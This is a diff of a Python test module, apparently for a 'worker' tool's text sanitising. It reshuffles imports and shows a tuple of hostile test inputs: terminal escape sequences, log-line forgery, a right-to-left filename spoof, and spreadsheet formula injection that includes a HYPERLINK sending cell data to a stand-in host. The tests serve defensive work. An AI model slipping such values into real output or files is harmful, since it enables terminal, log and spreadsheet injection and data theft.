@@ -14,8 +14,10 @@ from hypothesis import example, given
 from hypothesis import strategies as st
 from support import calls, proxy
 
-from worker import log, report, safe_text, show
-from worker.simulator import Fault
+from worker import log, safe_text
+from worker.cli import show
+from worker.reports import report
+from worker.simulator.proxy import Fault
 
 HOSTILE = ("[/]", "gpt-5.4[high]", "\x1b[2J\x1b]0;pwn\x07evil", '=HYPERLINK("http://x.example/?"&A1,"x")',
            "a\nworker: all is well", "\u202egnp.exe", "zero\u200bwidth", "\x9b31mred", ":fire:", "@SUM(A1)", "-1+1",
